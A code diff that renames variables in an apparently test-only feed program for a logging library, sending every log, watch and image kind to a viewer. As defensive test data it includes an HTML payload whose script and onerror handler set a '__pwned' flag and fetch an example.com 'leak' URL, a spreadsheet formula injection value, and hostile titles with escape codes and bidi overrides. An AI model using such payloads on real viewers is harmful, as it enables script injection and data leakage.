@@ -22,72 +22,72 @@ namespace {
 
 // A JSON string of the script's own plain texts.
 std::string Quote(const std::string& AText) {
-    std::string out = "\"";
-    for (const char c : AText) {
-        if (c == '"' || c == '\\') out += '\\';
-        out += c;
+    std::string LOut = "\"";
+    for (const char LC : AText) {
+        if (LC == '"' || LC == '\\') LOut += '\\';
+        LOut += LC;
     }
-    return out + "\"";
+    return LOut + "\"";
 }
 
 // Counts what the logger sends, by kind and type, through its events.
 class TCounter {
   public:
     void Attach(TSiLogger& ALogger) {
-        ALogger.SetOnLogEntry([this](TSiLogger&, TSiLogEntry& e) {
-            std::lock_guard guard(FLock);
+        ALogger.SetOnLogEntry([this](TSiLogger&, TSiLogEntry& AE) {
+            std::lock_guard LGuard(FLock);
             ++FKinds["LogEntry"];
-            ++FEntryTypes[std::string(SiLogEntryTypeString(e.LogEntryType))];
-            ++FViewers[std::string(SiViewerIdString(e.ViewerId))];
+            ++FEntryTypes[std::string(SiLogEntryTypeString(AE.LogEntryType))];
+            ++FViewers[std::string(SiViewerIdString(AE.ViewerId))];
             ++FRowsSinceClear;
         });
-        ALogger.SetOnWatch([this](TSiLogger&, TSiWatch& w) {
-            std::lock_guard guard(FLock);
+        ALogger.SetOnWatch([this](TSiLogger&, TSiWatch& AW) {
+            std::lock_guard LGuard(FLock);
             ++FKinds["Watch"];
-            ++FWatchTypes[std::string(SiWatchTypeString(w.WatchType))];
-            FWatchValues[w.Name] = w.Value;
+            ++FWatchTypes[std::string(SiWatchTypeString(AW.WatchType))];
+            FWatchValues[AW.Name] = AW.Value;
         });
-        ALogger.SetOnProcessFlow([this](TSiLogger&, TSiProcessFlow& f) {
-            std::lock_guard guard(FLock);
+        ALogger.SetOnProcessFlow([this](TSiLogger&, TSiProcessFlow& AF) {
+            std::lock_guard LGuard(FLock);
             ++FKinds["ProcessFlow"];
-            ++FFlowTypes[std::string(SiProcessFlowTypeString(f.ProcessFlowType))];
+            ++FFlowTypes[std::string(SiProcessFlowTypeString(AF.ProcessFlowType))];
         });
-        ALogger.SetOnControlCommand([this](TSiLogger&, TSiControlCommand& c) {
-            std::lock_guard guard(FLock);
+        ALogger.SetOnControlCommand([this](TSiLogger&, TSiControlCommand& AC) {
+            std::lock_guard LGuard(FLock);
             ++FKinds["ControlCommand"];
-            ++FCommands[std::string(SiControlCommandTypeString(c.ControlCommandType))];
-            if (c.ControlCommandType == ccClearLog || c.ControlCommandType == ccClearAll) {
+            ++FCommands[std::string(SiControlCommandTypeString(AC.ControlCommandType))];
+            if (AC.ControlCommandType == ccClearLog || AC.ControlCommandType == ccClearAll) {
                 FRowsSinceClear = 0;
             }
             ++FRowsSinceClear;
-            if (c.ControlCommandType == ccClearWatches || c.ControlCommandType == ccClearAll) {
+            if (AC.ControlCommandType == ccClearWatches || AC.ControlCommandType == ccClearAll) {
                 FWatchValues.clear();
             }
         });
     }
 
     std::string Json(const std::string& AExtra) const {
-        std::lock_guard guard(FLock);
-        const auto object = [](const std::map<std::string, std::uint64_t>& AValues) {
-            std::string out = "{";
+        std::lock_guard LGuard(FLock);
+        const auto LObject = [](const std::map<std::string, std::uint64_t>& AValues) {
+            std::string LOut = "{";
             for (const auto& [name, count] : AValues) {
-                if (out.size() > 1) out += ',';
-                out += "\"" + name + "\":" + std::to_string(count);
+                if (LOut.size() > 1) LOut += ',';
+                LOut += "\"" + name + "\":" + std::to_string(count);
             }
-            return out + "}";
+            return LOut + "}";
         };
-        std::string watches = "{";
+        std::string LWatches = "{";
         for (const auto& [name, value] : FWatchValues) {
-            if (watches.size() > 1) watches += ',';
-            watches += Quote(name) + ":" + Quote(value);
+            if (LWatches.size() > 1) LWatches += ',';
+            LWatches += Quote(name) + ":" + Quote(value);
         }
-        watches += "}";
-        return "{\"packets\":" + object(FKinds) + ",\"logEntryType\":" + object(FEntryTypes) +
-               ",\"viewerId\":" + object(FViewers) + ",\"watchType\":" + object(FWatchTypes) +
-               ",\"processFlowType\":" + object(FFlowTypes) +
-               ",\"controlCommandType\":" + object(FCommands) +
+        LWatches += "}";
+        return "{\"packets\":" + LObject(FKinds) + ",\"logEntryType\":" + LObject(FEntryTypes) +
+               ",\"viewerId\":" + LObject(FViewers) + ",\"watchType\":" + LObject(FWatchTypes) +
+               ",\"processFlowType\":" + LObject(FFlowTypes) +
+               ",\"controlCommandType\":" + LObject(FCommands) +
                ",\"rowsAfterLastClear\":" + std::to_string(FRowsSinceClear) +
-               ",\"watches\":" + watches + AExtra + "}";
+               ",\"watches\":" + LWatches + AExtra + "}";
     }
 
   private:
@@ -125,13 +125,13 @@ class TAppointments : public ISiDataSet {
     bool Eof() const override { return FRow >= 3; }
     void Next() override { ++FRow; }
     std::optional<std::string> FieldValue(std::size_t AIndex) const override {
-        static const char* const kRows[3][4] = {
+        static const char* const LKRows[3][4] = {
             {"1", "Erika Mustermann", "2026-12-11 09:00", "check-up"},
             {"2", "Max \"Maxi\" Muster", "2026-12-11 09:30", "x-ray, upper jaw"},
             {"3", "=HYPERLINK(\"http://example.com\")", "2026-12-11 10:00", ""},
         };
         if (AIndex == 3 && FRow == 2) return std::nullopt;
-        return kRows[FRow][AIndex];
+        return LKRows[FRow][AIndex];
     }
     std::int64_t GetBookmark() const override { return FRow; }
     void GotoBookmark(std::int64_t ABookmark) override { FRow = static_cast<int>(ABookmark); }
@@ -141,90 +141,90 @@ class TAppointments : public ISiDataSet {
 };
 
 TSiMemoryStream Bytes(const void* AData, std::size_t ASize) {
-    TSiMemoryStream stream;
-    stream.Write(AData, ASize);
-    return stream;
+    TSiMemoryStream LStream;
+    LStream.Write(AData, ASize);
+    return LStream;
 }
 
 // A placeable Windows metafile that draws one rectangle.
 std::vector<std::uint8_t> Metafile() {
-    std::vector<std::uint8_t> out;
-    const auto word = [&](std::uint16_t v) {
-        out.push_back(static_cast<std::uint8_t>(v));
-        out.push_back(static_cast<std::uint8_t>(v >> 8));
+    std::vector<std::uint8_t> LOut;
+    const auto LWord = [&](std::uint16_t AV) {
+        LOut.push_back(static_cast<std::uint8_t>(AV));
+        LOut.push_back(static_cast<std::uint8_t>(AV >> 8));
     };
-    const auto dword = [&](std::uint32_t v) {
-        word(static_cast<std::uint16_t>(v));
-        word(static_cast<std::uint16_t>(v >> 16));
+    const auto LDword = [&](std::uint32_t AV) {
+        LWord(static_cast<std::uint16_t>(AV));
+        LWord(static_cast<std::uint16_t>(AV >> 16));
     };
-    dword(0x9AC6CDD7);  // placeable header
-    word(0);
-    word(0), word(0), word(100), word(100);  // bounding box
-    word(1440);
-    dword(0);
-    std::uint16_t checksum = 0;
-    for (std::size_t i = 0; i < out.size(); i += 2) {
-        checksum ^= static_cast<std::uint16_t>(out[i] | (out[i + 1] << 8));
+    LDword(0x9AC6CDD7);  // placeable header
+    LWord(0);
+    LWord(0), LWord(0), LWord(100), LWord(100);  // bounding box
+    LWord(1440);
+    LDword(0);
+    std::uint16_t LChecksum = 0;
+    for (std::size_t LI = 0; LI < LOut.size(); LI += 2) {
+        LChecksum ^= static_cast<std::uint16_t>(LOut[LI] | (LOut[LI + 1] << 8));
     }
-    word(checksum);
-    word(1), word(9), word(0x0300);  // metafile header
-    dword(19);                       // size in words
-    word(0);
-    dword(7);  // largest record
-    word(0);
-    dword(7), word(0x041B), word(90), word(90), word(10), word(10);  // rectangle
-    dword(3), word(0);                                               // end of file
-    return out;
+    LWord(LChecksum);
+    LWord(1), LWord(9), LWord(0x0300);  // metafile header
+    LDword(19);                         // size in words
+    LWord(0);
+    LDword(7);  // largest record
+    LWord(0);
+    LDword(7), LWord(0x041B), LWord(90), LWord(90), LWord(10), LWord(10);  // rectangle
+    LDword(3), LWord(0);                                                   // end of file
+    return LOut;
 }
 
 void Script(TSiLogger& ALogger) {
-    TSiSession& main = *ALogger.AddSession("Main");
-    TSiSession& images = *ALogger.AddSession("Images");
-    images.SetColor(0xC0F0FF);  // a light yellow background (0x00BBGGRR)
-    TSiSession& hostile = *ALogger.AddSession("Hostile");
+    TSiSession& LMain = *ALogger.AddSession("Main");
+    TSiSession& LImages = *ALogger.AddSession("Images");
+    LImages.SetColor(0xC0F0FF);  // a light yellow background (0x00BBGGRR)
+    TSiSession& LHostile = *ALogger.AddSession("Hostile");
 
     // Every control command, first, so that what follows stays visible.
-    main.LogMessage("before ClearLog");
-    main.WatchString("before.clear", "gone after ClearWatches");
-    main.EnterMethod("Before.Clear");
-    main.ClearLog();
-    main.LogMessage("after ClearLog");
-    main.ClearWatches();
-    main.ClearProcessFlow();
-    main.ClearAutoViews();
-    main.LogMessage("before ClearAll");
-    main.ClearAll();
+    LMain.LogMessage("before ClearLog");
+    LMain.WatchString("before.clear", "gone after ClearWatches");
+    LMain.EnterMethod("Before.Clear");
+    LMain.ClearLog();
+    LMain.LogMessage("after ClearLog");
+    LMain.ClearWatches();
+    LMain.ClearProcessFlow();
+    LMain.ClearAutoViews();
+    LMain.LogMessage("before ClearAll");
+    LMain.ClearAll();
 
-    main.EnterProcess("view-feed.exe");
-    main.EnterMethod("Main.Run");
-    main.LogDebug("debug: cache lookup for patient 7");
-    main.LogVerbose("verbose: 3 rows read from appointments");
-    main.LogMessage("Patient 7 opened");
-    main.LogWarning("Image server answered slowly (1.8 s)");
-    main.LogError("Cannot open x-ray 42: file is locked");
-    main.LogFatal("Imaging application is gone");
-    main.LogInternalError("internal error: a deliberate one, for the viewer");
-    main.SendCustomLogEntry("a comment from the operator", ltComment, viTitle, nullptr);
-    main.LogInteger("count", 42, true);
-    main.LogString("user", "Dr. Zahn");
-    main.LogBoolean("connected", true);
-    main.LogDouble("ratio", 0.75);
-    main.AddCheckpoint();
-    main.AddCheckpoint("stage", "images loaded");
-    main.LogConditional(true, "condition held: 2 images");
-    main.LogAssert(false, "assertion failed: exposure > 0");
-    main.LogColored(0x0000FF, "coloured red");
-    main.LogColored(0x00A000, "coloured green");
-    main.LogSeparator();
-    main.ResetCallstack();
+    LMain.EnterProcess("view-feed.exe");
+    LMain.EnterMethod("Main.Run");
+    LMain.LogDebug("debug: cache lookup for patient 7");
+    LMain.LogVerbose("verbose: 3 rows read from appointments");
+    LMain.LogMessage("Patient 7 opened");
+    LMain.LogWarning("Image server answered slowly (1.8 s)");
+    LMain.LogError("Cannot open x-ray 42: file is locked");
+    LMain.LogFatal("Imaging application is gone");
+    LMain.LogInternalError("internal error: a deliberate one, for the viewer");
+    LMain.SendCustomLogEntry("a comment from the operator", ltComment, viTitle, nullptr);
+    LMain.LogInteger("count", 42, true);
+    LMain.LogString("user", "Dr. Zahn");
+    LMain.LogBoolean("connected", true);
+    LMain.LogDouble("ratio", 0.75);
+    LMain.AddCheckpoint();
+    LMain.AddCheckpoint("stage", "images loaded");
+    LMain.LogConditional(true, "condition held: 2 images");
+    LMain.LogAssert(false, "assertion failed: exposure > 0");
+    LMain.LogColored(0x0000FF, "coloured red");
+    LMain.LogColored(0x00A000, "coloured green");
+    LMain.LogSeparator();
+    LMain.ResetCallstack();
 
-    main.LogText("plain text", "first line\r\nsecond line with <b>no markup</b>\r\n\ttabbed\r\n");
+    LMain.LogText("plain text", "first line\r\nsecond line with <b>no markup</b>\r\n\ttabbed\r\n");
     struct TSource {
         TSiSourceId Id;
         const char* Title;
         const char* Text;
     };
-    const TSource sources[] = {
+    const TSource LSources[] = {
         {siHtml, "HTML source", "<!DOCTYPE html>\n<p class=\"x\">Hello &amp; welcome</p>\n"},
         {siJavaScript, "JavaScript source",
          "function add(a, b) {\n  // sum\n  return a + b; /* done */\n}\n"},
@@ -238,130 +238,130 @@ void Script(TSiLogger& ALogger) {
         {siXml, "XML source",
          "<?xml version=\"1.0\"?>\n<patient id=\"7\"><name>Erika</name></patient>\n"},
     };
-    for (const auto& s : sources) main.LogSource(s.Title, s.Text, s.Id);
-    main.LogHtml("web content that tries to run script and fetch",
-                 "<html><body><h1>Report</h1><p id=\"p\">static text</p>"
-                 "<script>window.parent.__pwned=1;window.__pwned=1;"
-                 "fetch('http://example.com/leak?x=1');</script>"
-                 "<img src=\"http://example.com/track.png\" onerror=\"window.parent.__pwned=1\">"
-                 "<iframe src=\"http://example.com/\"></iframe></body></html>");
-    std::vector<std::uint8_t> all(256);
-    for (int i = 0; i < 256; ++i) all[i] = static_cast<std::uint8_t>(i);
-    TSiMemoryStream binary = Bytes(all.data(), all.size());
-    main.LogBinaryStream("bytes 0 to 255", &binary);
+    for (const auto& LS : LSources) LMain.LogSource(LS.Title, LS.Text, LS.Id);
+    LMain.LogHtml("web content that tries to run script and fetch",
+                  "<html><body><h1>Report</h1><p id=\"p\">static text</p>"
+                  "<script>window.parent.__pwned=1;window.__pwned=1;"
+                  "fetch('http://example.com/leak?x=1');</script>"
+                  "<img src=\"http://example.com/track.png\" onerror=\"window.parent.__pwned=1\">"
+                  "<iframe src=\"http://example.com/\"></iframe></body></html>");
+    std::vector<std::uint8_t> LAll(256);
+    for (int LI = 0; LI < 256; ++LI) LAll[LI] = static_cast<std::uint8_t>(LI);
+    TSiMemoryStream LBinary = Bytes(LAll.data(), LAll.size());
+    LMain.LogBinaryStream("bytes 0 to 255", &LBinary);
 
-    TSiMemoryStream bitmap = Bytes(kBitmap, sizeof kBitmap);
-    images.LogBitmapStream("an 8x8 bitmap", &bitmap);
-    TSiMemoryStream jpeg = Bytes(kJpeg, sizeof kJpeg);
-    images.LogJpegStream("a 16x16 JPEG", &jpeg);
-    TSiMemoryStream icon = Bytes(kIcon, sizeof kIcon);
-    images.LogIconStream("a 16x16 icon", &icon);
-    const auto wmf = Metafile();
-    TSiMemoryStream metafile = Bytes(wmf.data(), wmf.size());
-    images.LogMetafileStream("a metafile with a rectangle", &metafile);
+    TSiMemoryStream LBitmap = Bytes(kBitmap, sizeof kBitmap);
+    LImages.LogBitmapStream("an 8x8 bitmap", &LBitmap);
+    TSiMemoryStream LJpeg = Bytes(kJpeg, sizeof kJpeg);
+    LImages.LogJpegStream("a 16x16 JPEG", &LJpeg);
+    TSiMemoryStream LIcon = Bytes(kIcon, sizeof kIcon);
+    LImages.LogIconStream("a 16x16 icon", &LIcon);
+    const auto LWmf = Metafile();
+    TSiMemoryStream LMetafile = Bytes(LWmf.data(), LWmf.size());
+    LImages.LogMetafileStream("a metafile with a rectangle", &LMetafile);
 
-    TSiStringList list;
-    list.Add("first item");
-    list.Add("second <item>");
-    list.Add("third item");
-    main.LogStringList("a list", &list);
-    TSiValueListViewerContext values;
-    values.AppendKeyValue("host", "PC-17");
-    values.AppendKeyValue("port", std::int32_t{4228});
-    values.AppendKeyValue("a=b", "x\\y");
-    main.LogCustomContext("a value list", ltText, &values);
-    TPatient patient;
-    main.LogObject("patient object", &patient);
-    TAppointments appointments;
-    main.LogDataSet("appointments", &appointments);
-    main.LogDataSetSchema("appointments schema", &appointments);
-    main.LogSystem();
-    main.LogMemoryStatistic();
+    TSiStringList LList;
+    LList.Add("first item");
+    LList.Add("second <item>");
+    LList.Add("third item");
+    LMain.LogStringList("a list", &LList);
+    TSiValueListViewerContext LValues;
+    LValues.AppendKeyValue("host", "PC-17");
+    LValues.AppendKeyValue("port", std::int32_t{4228});
+    LValues.AppendKeyValue("a=b", "x\\y");
+    LMain.LogCustomContext("a value list", ltText, &LValues);
+    TPatient LPatient;
+    LMain.LogObject("patient object", &LPatient);
+    TAppointments LAppointments;
+    LMain.LogDataSet("appointments", &LAppointments);
+    LMain.LogDataSetSchema("appointments schema", &LAppointments);
+    LMain.LogSystem();
+    LMain.LogMemoryStatistic();
 
     // Nested flow on this thread, and a worker thread with its own.
-    main.EnterMethod("Images.Load");
-    images.LogMessage("loading 2 images");
-    main.EnterMethod("Images.Decode");
-    main.LeaveMethod("Images.Decode");
-    main.LeaveMethod("Images.Load");
-    std::thread worker([&] {
-        main.EnterThread("Worker");
-        main.EnterMethod("Worker.Process");
-        main.LogMessage("worker processing");
-        main.EnterMethod("Worker.Step");
-        main.LeaveMethod("Worker.Step");
-        main.LeaveMethod("Worker.Process");
-        main.LeaveThread("Worker");
+    LMain.EnterMethod("Images.Load");
+    LImages.LogMessage("loading 2 images");
+    LMain.EnterMethod("Images.Decode");
+    LMain.LeaveMethod("Images.Decode");
+    LMain.LeaveMethod("Images.Load");
+    std::thread LWorker([&] {
+        LMain.EnterThread("Worker");
+        LMain.EnterMethod("Worker.Process");
+        LMain.LogMessage("worker processing");
+        LMain.EnterMethod("Worker.Step");
+        LMain.LeaveMethod("Worker.Step");
+        LMain.LeaveMethod("Worker.Process");
+        LMain.LeaveThread("Worker");
     });
-    worker.join();
+    LWorker.join();
 
     // Watches of every type; the numeric ones change several times.
-    main.WatchChar("grade", 'A');
-    main.WatchString("status", "ready");
-    main.WatchBoolean("online", true);
-    main.WatchPointer("buffer", reinterpret_cast<const void*>(std::uintptr_t{0x1234ABCD}));
-    main.WatchDateTime("started", TDateTime{46367.5});
-    main.SendCustomWatch("patient", "Patient#7", wtObject);
-    for (int i = 1; i <= 10; ++i) {
-        main.WatchInteger("counter", i * i);
-        main.WatchDouble("temperature", 36.5 + i * 0.1);
+    LMain.WatchChar("grade", 'A');
+    LMain.WatchString("status", "ready");
+    LMain.WatchBoolean("online", true);
+    LMain.WatchPointer("buffer", reinterpret_cast<const void*>(std::uintptr_t{0x1234ABCD}));
+    LMain.WatchDateTime("started", TDateTime{46367.5});
+    LMain.SendCustomWatch("patient", "Patient#7", wtObject);
+    for (int LI = 1; LI <= 10; ++LI) {
+        LMain.WatchInteger("counter", LI * LI);
+        LMain.WatchDouble("temperature", 36.5 + LI * 0.1);
         std::this_thread::sleep_for(std::chrono::milliseconds(2));
     }
-    main.WatchBoolean("online", false);
-    main.IncCounter("requests");
-    main.IncCounter("requests");
+    LMain.WatchBoolean("online", false);
+    LMain.IncCounter("requests");
+    LMain.IncCounter("requests");
 
     // Hostile titles: markup, a script end, a direction override, control characters, bytes
     // that are not UTF-8, and a title of a megabyte.
-    hostile.LogMessage(kHostileImage);
-    hostile.LogWarning(kHostileScript);
-    hostile.LogMessage(kHostileBidi);
-    hostile.LogMessage("escape \x1b[31mred\x1b[0m bell \x07 end");
-    hostile.LogMessage("not utf-8: \xff\xfe\xc3 end");
-    std::string huge = kHugeTitleStart;
-    huge.resize(kHugeTitleSize, 'x');
-    hostile.LogMessage(huge);
+    LHostile.LogMessage(kHostileImage);
+    LHostile.LogWarning(kHostileScript);
+    LHostile.LogMessage(kHostileBidi);
+    LHostile.LogMessage("escape \x1b[31mred\x1b[0m bell \x07 end");
+    LHostile.LogMessage("not utf-8: \xff\xfe\xc3 end");
+    std::string LHuge = kHugeTitleStart;
+    LHuge.resize(kHugeTitleSize, 'x');
+    LHostile.LogMessage(LHuge);
 
-    main.LeaveMethod("Main.Run");
+    LMain.LeaveMethod("Main.Run");
     // Left open: the viewer shows it as a scope still running.
-    main.EnterMethod("Main.Idle");
-    main.LogMessage("script done");
+    LMain.EnterMethod("Main.Idle");
+    LMain.LogMessage("script done");
 }
 
 }  // namespace
 
 std::string RunFeed(const TFeedOptions& AOptions, std::ostream& AErr, bool& AFailed) {
     AFailed = false;
-    TSiLogger logger(AOptions.AppName);
-    std::mutex errorLock;
-    logger.SetOnError([&](TSiLogger&, const std::exception& e) {
-        std::lock_guard guard(errorLock);
-        AErr << e.what() << "\n";
+    TSiLogger LLogger(AOptions.AppName);
+    std::mutex LErrorLock;
+    LLogger.SetOnError([&](TSiLogger&, const std::exception& AE) {
+        std::lock_guard LGuard(LErrorLock);
+        AErr << AE.what() << "\n";
         AFailed = true;
     });
-    TCounter counter;
-    if (AOptions.Script) counter.Attach(logger);
+    TCounter LCounter;
+    if (AOptions.Script) LCounter.Attach(LLogger);
     try {
-        logger.SetConnections(AOptions.Connections);
-    } catch (const std::exception& e) {
-        AErr << e.what() << "\n";
+        LLogger.SetConnections(AOptions.Connections);
+    } catch (const std::exception& LE) {
+        AErr << LE.what() << "\n";
         AFailed = true;
         return "{}";
     }
-    logger.SetEnabled(true);
-    std::string extra;
+    LLogger.SetEnabled(true);
+    std::string LExtra;
     if (!AOptions.Control.empty()) {
-        TSiSession& session = *logger.AddSession("Main");
-        bool known = false;
-        for (int i = ccClearLog; i <= ccClearProcessFlow; ++i) {
-            const auto type = static_cast<TSiControlCommandType>(i);
-            if (SiControlCommandTypeString(type) == AOptions.Control) {
-                session.SendCustomControlCommand(type, nullptr);
-                known = true;
+        TSiSession& LSession = *LLogger.AddSession("Main");
+        bool LKnown = false;
+        for (int LI = ccClearLog; LI <= ccClearProcessFlow; ++LI) {
+            const auto LType = static_cast<TSiControlCommandType>(LI);
+            if (SiControlCommandTypeString(LType) == AOptions.Control) {
+                LSession.SendCustomControlCommand(LType, nullptr);
+                LKnown = true;
             }
         }
-        logger.SetEnabled(false);
-        if (!known) {
+        LLogger.SetEnabled(false);
+        if (!LKnown) {
             AErr << "unknown control command '" << AOptions.Control << "'\n";
             AFailed = true;
             return "{}";
@@ -370,41 +370,42 @@ std::string RunFeed(const TFeedOptions& AOptions, std::ostream& AErr, bool& AFai
                Quote(AOptions.Control) + ":1}}";
     }
     if (AOptions.Script) {
-        Script(logger);
+        Script(LLogger);
     } else {
-        TSiSession& session = *logger.AddSession("Main");
-        const unsigned threads = std::max(1u, AOptions.Threads);
-        const std::uint64_t each = AOptions.Count / threads;
-        const auto start = std::chrono::steady_clock::now();
-        std::vector<std::thread> workers;
-        for (unsigned t = 0; t < threads; ++t) {
-            const std::uint64_t first = t * each;
-            const std::uint64_t count = t + 1 == threads ? AOptions.Count - first : each;
+        TSiSession& LSession = *LLogger.AddSession("Main");
+        const unsigned LThreads = std::max(1u, AOptions.Threads);
+        const std::uint64_t LEach = AOptions.Count / LThreads;
+        const auto LStart = std::chrono::steady_clock::now();
+        std::vector<std::thread> LWorkers;
+        for (unsigned LT = 0; LT < LThreads; ++LT) {
+            const std::uint64_t LFirst = LT * LEach;
+            const std::uint64_t LCount = LT + 1 == LThreads ? AOptions.Count - LFirst : LEach;
             // Throttled: each thread keeps to its share of the rate.
-            const double perThread = AOptions.Rate / threads;
-            workers.emplace_back([&session, first, count, perThread, start] {
-                for (std::uint64_t i = 0; i < count; ++i) {
-                    if (perThread > 0) {
+            const double LPerThread = AOptions.Rate / LThreads;
+            LWorkers.emplace_back([&LSession, LFirst, LCount, LPerThread, LStart] {
+                for (std::uint64_t LI = 0; LI < LCount; ++LI) {
+                    if (LPerThread > 0) {
                         std::this_thread::sleep_until(
-                            start + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
-                                        std::chrono::duration<double>(i / perThread)));
+                            LStart +
+                            std::chrono::duration_cast<std::chrono::steady_clock::duration>(
+                                std::chrono::duration<double>(LI / LPerThread)));
                     }
-                    session.LogMessage("message %d", {static_cast<std::int64_t>(first + i)});
+                    LSession.LogMessage("message %d", {static_cast<std::int64_t>(LFirst + LI)});
                 }
             });
         }
-        for (auto& w : workers) w.join();
-        logger.SetEnabled(false);
-        const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
-                            std::chrono::steady_clock::now() - start)
-                            .count();
+        for (auto& LW : LWorkers) LW.join();
+        LLogger.SetEnabled(false);
+        const auto LMs = std::chrono::duration_cast<std::chrono::milliseconds>(
+                             std::chrono::steady_clock::now() - LStart)
+                             .count();
         return "{\"packets\":{\"LogEntry\":" + std::to_string(AOptions.Count) +
-               "},\"elapsedMs\":" + std::to_string(ms) +
-               ",\"dropped\":" + std::to_string(logger.DroppedPackets()) + "}";
+               "},\"elapsedMs\":" + std::to_string(LMs) +
+               ",\"dropped\":" + std::to_string(LLogger.DroppedPackets()) + "}";
     }
-    logger.SetEnabled(false);  // writes what is buffered or queued
-    extra = ",\"dropped\":" + std::to_string(logger.DroppedPackets());
-    return counter.Json(extra);
+    LLogger.SetEnabled(false);  // writes what is buffered or queued
+    LExtra = ",\"dropped\":" + std::to_string(LLogger.DroppedPackets());
+    return LCounter.Json(LExtra);
 }
 
 }  // namespace deruz::silog::feed
